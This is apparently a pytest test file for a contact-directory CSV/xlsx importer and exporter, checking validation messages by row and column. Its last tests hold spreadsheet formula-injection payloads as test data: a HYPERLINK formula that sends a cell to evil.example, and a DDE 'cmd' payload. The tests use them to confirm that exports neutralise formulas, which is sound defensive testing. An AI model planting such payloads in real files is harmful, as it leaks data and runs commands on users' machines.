"""Reading directory files: CSV variants, .xlsx, and problems reported by row and column."""

from __future__ import annotations

from datetime import date

import pytest
from openpyxl import Workbook

from knowledge.contact_files import ContactFileError, check_file, write_csv, write_xlsx
from tests import contact_rows
from tests.contact_rows import HEADER, ROWS, TODAY


def check(tmp_path, rows=ROWS, header=HEADER, **options):
    return check_file(contact_rows.write_csv(tmp_path / "contacts.csv", rows, header, **options), today=TODAY)


def with_cell(row_index: int, column: str, value: str) -> list[list[str]]:
    rows = [list(r) for r in ROWS]
    rows[row_index][HEADER.index(column)] = value
    return rows


@pytest.mark.parametrize("options", [{}, {"bom": True}, {"delimiter": ";"}, {"bom": True, "delimiter": ";"}])
def test_csv_with_or_without_bom_comma_or_semicolon(tmp_path, options):
    checked = check(tmp_path, **options)
    assert checked.problems == []
    assert [r["id"] for r in checked.records] == [r[0] for r in ROWS]
    first = checked.records[0]
    assert first["last_verified"] == "2026-03-21"  # the export's 'updated' column
    assert first["name"] == "Pieter van Dalsum" and first["languages"] == "nl;en;de"


def test_unknown_column_is_reported_and_nothing_is_valid(tmp_path):
    header = HEADER + ["fax"]
    checked = check(tmp_path, [r + ["+1 555"] for r in ROWS], header)
    assert [p.row for p in checked.problems] == [1]
    assert checked.problems[0].column == "fax" and "unknown column" in checked.problems[0].message
    assert checked.records == []


def test_missing_required_column(tmp_path):
    keep = [i for i, h in enumerate(HEADER) if h != "email"]
    checked = check(tmp_path, [[r[i] for i in keep] for r in ROWS], [HEADER[i] for i in keep])
    assert [p.line() for p in checked.problems] == ["row 1, email: required column is missing"]
    assert checked.records == []


@pytest.mark.parametrize(
    "column, value, message",
    [
        ("name", "", "row 3, name: required value is empty"),
        ("country_code", "XZ", "row 3, country_code: 'XZ' is not an ISO 3166 alpha-2 country code"),
        ("country", "Spain", "row 3, country: 'Spain' is Spain (ES), not ZM"),
        ("email", "mwila.chanda(at)npa-zm", "row 3, email: 'mwila.chanda(at)npa-zm' is not an email address"),
        ("updated", "03/03/2026", "row 3, last_verified: '03/03/2026' is not a date written YYYY-MM-DD"),
        ("updated", "2026-02-30", "row 3, last_verified: '2026-02-30' is not a date written YYYY-MM-DD"),
        ("updated", "2027-01-01", "row 3, last_verified: 2027-01-01 is in the future"),
        ("languages", "en;English", "row 3, languages: 'english' is not an ISO 639 language code (did you mean 'en'?)"),
        ("phone", "b.musonda@police-zm.example", "row 3, phone: 'b.musonda@police-zm.example' is not a phone number"),
        ("id", "cp 010", "row 3, id: 'cp 010' may only contain letters, digits, '.', '_' and '-'"),
    ],
)
def test_each_kind_of_bad_value_is_reported_by_row_and_column(tmp_path, column, value, message):
    checked = check(tmp_path, with_cell(1, column, value))
    assert [p.line() for p in checked.problems] == [message]
    assert "cp-010" not in [r["id"] for r in checked.records]
    assert len(checked.records) == len(ROWS) - 1  # the other rows stay valid
    assert checked.invalid_rows == [3]


def test_duplicate_ids_and_too_many_cells(tmp_path):
    rows = [list(r) for r in ROWS] + [list(ROWS[0]), list(ROWS[1]) + ["extra"]]
    checked = check(tmp_path, rows)
    lines = [p.line() for p in checked.problems]
    assert "row 8, id: duplicate id cp-022 (also on row 2)" in lines
    assert f"row 9: {len(HEADER) + 1} cells but the header has {len(HEADER)} columns" in lines


def test_lower_case_country_code_and_empty_country_name_are_normalised(tmp_path):
    checked = check(tmp_path, [[*r[:2], "nl", "", *r[4:]] for r in ROWS[:1]])
    assert checked.problems == []
    assert checked.records[0]["country_code"] == "NL" and checked.records[0]["country"] == "Netherlands"


@pytest.mark.parametrize(
    "name, content, message",
    [
        ("contacts.csv", "", "the file is empty"),
        ("contacts.csv", "id,name\n".encode("utf-16"), "not UTF-8"),
        ("contacts.xlsx", b"not a zip", "not a readable .xlsx workbook"),
        ("contacts.xls", b"\xd0\xcf\x11\xe0", "old .xls workbooks are not supported"),
        ("contacts.pdf", b"%PDF", "expected a .csv or .xlsx file"),
    ],
)
def test_unreadable_files_fail_with_one_clear_message(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    with pytest.raises(ContactFileError, match=message):
        check_file(path, today=TODAY)


def test_xlsx_as_excel_writes_it_dates_and_numbers_as_cells(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    row = list(ROWS[0])
    row[HEADER.index("updated")] = date(2026, 3, 21)  # a date cell, not text
    row[HEADER.index("phone")] = 315550122  # a number cell
    sheet.append(row)
    workbook.save(tmp_path / "contacts.xlsx")
    checked = check_file(tmp_path / "contacts.xlsx", today=TODAY)
    assert checked.problems == []
    assert checked.records[0]["last_verified"] == "2026-03-21"
    assert checked.records[0]["phone"] == "315550122"


def test_export_then_import_gives_the_same_records_csv_and_xlsx(tmp_path):
    original = check(tmp_path).records
    stored = [{**r, "address": "", "urgent_line": "", "notes": ""} for r in original]
    write_xlsx(stored, tmp_path / "export.xlsx")
    with (tmp_path / "export.csv").open("w", encoding="utf-8", newline="") as stream:
        write_csv(stored, stream)
    for name in ("export.xlsx", "export.csv"):
        again = check_file(tmp_path / name, today=TODAY)
        assert again.problems == []
        assert [{k: v for k, v in r.items() if v} for r in again.records] == [
            {k: v for k, v in r.items() if v} for r in original
        ], name


PLANTED = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("value", [PLANTED, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "  =1+1"])
def test_csv_export_neutralises_formula_cells_and_still_reimports_them(tmp_path, value):
    import csv as csv_module

    records = check(tmp_path).records
    stored = [{**records[0], "notes": value}]
    with (tmp_path / "export.csv").open("w", encoding="utf-8", newline="") as stream:
        write_csv(stored, stream)
    with (tmp_path / "export.csv").open(encoding="utf-8", newline="") as stream:
        exported = list(csv_module.DictReader(stream))[0]
    assert exported["notes"] == "'" + value  # a spreadsheet shows it as text
    assert exported["phone"] == "'+31 555 0122"
    again = check_file(tmp_path / "export.csv", today=TODAY).records[0]
    assert again["notes"] == value.strip() and again["phone"] == "+31 555 0122"  # import trims spaces


def test_xlsx_export_writes_text_cells_as_text_never_as_formulas(tmp_path):
    from openpyxl import load_workbook

    records = check(tmp_path).records
    write_xlsx([{**records[0], "notes": PLANTED}], tmp_path / "export.xlsx")
    sheet = load_workbook(tmp_path / "export.xlsx").active
    notes = sheet.cell(row=2, column=list(sheet.iter_rows(max_row=1, values_only=True))[0].index("notes") + 1)
    assert notes.data_type == "s" and notes.value == PLANTED
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert check_file(tmp_path / "export.xlsx", today=TODAY).records[0]["notes"] == PLANTED


def test_xlsx_import_refuses_a_formula_cell_naming_row_and_column(tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([*HEADER, "notes"])
    sheet.append([*ROWS[0], '=HYPERLINK("https://evil.example","x")'])
    workbook.save(tmp_path / "contacts.xlsx")
    with pytest.raises(ContactFileError, match=r"contacts.xlsx: row 2, column O \(notes\): holds a formula"):
        check_file(tmp_path / "contacts.xlsx", today=TODAY)
